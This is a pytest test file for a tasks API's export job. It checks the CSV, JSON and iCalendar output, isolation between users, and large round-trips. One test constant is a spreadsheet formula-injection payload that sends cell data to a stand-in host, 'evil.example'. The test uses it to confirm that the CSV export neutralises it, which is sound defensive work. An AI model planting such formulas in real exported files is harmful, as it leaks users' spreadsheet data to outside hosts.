"""`tasks.export`: everything, as a file that the programs of its format understand."""

import csv
import io
from typing import Any

import psycopg
import pytest
from icalendar import Calendar

from api_main.jobs import work
from tests.jobs.client import JobsClient, Json

pytestmark = pytest.mark.usefixtures("worker")

TASKS = "/api/v1/tasks"
NASTY = 'Umlaut ä, "quotes", comma; semicolon\\ and 🎉'
FORMULA = '=HYPERLINK("http://evil.example/?" & A1)'


async def add(adas: JobsClient, **form: Any) -> Json:
    answer = await adas.http.post(TASKS, json=form, headers=adas.person.headers)
    assert answer.status_code == 201, answer.text
    task: Json = answer.json()["data"]
    return task


async def export(adas: JobsClient, file_format: str) -> tuple[bytes, str]:
    job = await adas.wait((await adas.queue("tasks.export", format=file_format))["id"])
    assert job["state"] == "succeeded", job
    answer = await adas.result(job["id"])
    return answer.content, answer.headers["content-type"]


async def test_csv_has_every_column_and_no_formula(adas: JobsClient) -> None:
    first = await add(adas, title=NASTY, description="two\nlines", due_at="2026-12-01T09:00:00+01:00")
    second = await add(adas, title=FORMULA, status="completed", priority="low")
    content, media_type = await export(adas, "csv")
    assert media_type == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert rows == [
        {name: str(first[name] or "") for name in rows[0]} | {"title": NASTY},
        {name: str(second[name] or "") for name in rows[0]} | {"title": f"'{FORMULA}"},
    ]
    assert list(rows[0]) == [
        "id", "title", "description", "status", "priority", "due_at", "created_at", "updated_at",
    ]  # fmt: skip
    assert content.endswith(b"\r\n")


async def test_json_is_what_the_api_shows(adas: JobsClient) -> None:
    tasks = [await add(adas, title=NASTY), await add(adas, title=FORMULA, due_at="2026-12-01T09:00:00Z")]
    content, media_type = await export(adas, "json")
    assert media_type == "application/json"
    shown = [{name: value for name, value in task.items() if name not in {"owner_id", "version"}} for task in tasks]
    (answer,) = [await adas.result(job["id"]) for job in (await adas.send("GET")).json()["data"]]
    assert answer.json() == shown
    assert answer.content == content


async def test_icalendar_is_understood_by_a_calendar(adas: JobsClient) -> None:
    task = await add(adas, title=NASTY, description="x" * 300, priority="urgent", due_at="2026-12-01T09:00:00Z")
    await add(adas, title=FORMULA, status="completed")
    content, media_type = await export(adas, "icalendar")
    assert media_type == "text/calendar; charset=utf-8"
    assert max(len(line) for line in content.split(b"\r\n")) <= 75
    calendar = Calendar.from_ical(content)
    todo, done = calendar.walk("VTODO")
    assert (todo["summary"], todo["description"]) == (NASTY, "x" * 300)
    assert todo["uid"] == f"{task['id']}@hybrid-auth-api"
    assert (todo["status"], todo.decoded("priority")) == ("NEEDS-ACTION", 1)
    assert todo.decoded("due").isoformat() == "2026-12-01T09:00:00+00:00"
    assert (done["status"], "due" in done, done["summary"]) == ("COMPLETED", False, FORMULA)
    assert done.decoded("completed") == done.decoded("last-modified")


@pytest.mark.parametrize(
    ("file_format", "nothing"),
    [
        ("csv", b"id,title,description,status,priority,due_at,created_at,updated_at\r\n"),
        ("json", b"[]\n"),
        ("icalendar", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Hybrid Auth API//Tasks//EN\r\nEND:VCALENDAR\r\n"),
    ],
)
async def test_nobody_elses_tasks_are_in_it(
    adas: JobsClient, bobs: JobsClient, file_format: str, nothing: bytes
) -> None:
    await add(bobs, title="of Bob")
    assert (await export(adas, file_format))[0] == nothing


async def test_thousands_of_tasks_come_out_and_go_in_again(
    adas: JobsClient, bobs: JobsClient, admin: psycopg.Connection[Any]
) -> None:
    admin.execute(
        "insert into public.tasks (owner_id, title, description) select %s, '=' || n, repeat('x', 1 + n %% 50)"
        " from generate_series(1, 3000) n",
        (adas.person.id,),
    )
    content, _ = await export(adas, "csv")
    job = await bobs.wait((await bobs.import_file(content))["id"])
    assert job["result"]["summary"] == {"created": 3000, "skipped": 0}
    same = """
        select count(*) from (
          select title, description from public.tasks where owner_id = %s
          intersect select title, description from public.tasks where owner_id = %s
        ) shared
    """
    assert admin.execute(same, (adas.person.id, bobs.person.id)).fetchone() == (3000,)


async def test_a_file_that_would_be_too_large_fails_with_that_reason(
    adas: JobsClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(work, "MAX_RESULT", 1024)
    await add(adas, title="x", description="y" * 2000)
    job = await adas.wait((await adas.queue("tasks.export", format="json"))["id"])
    assert (job["state"], job["attempts"], job["error"]["code"]) == ("failed", 1, "result_too_large")
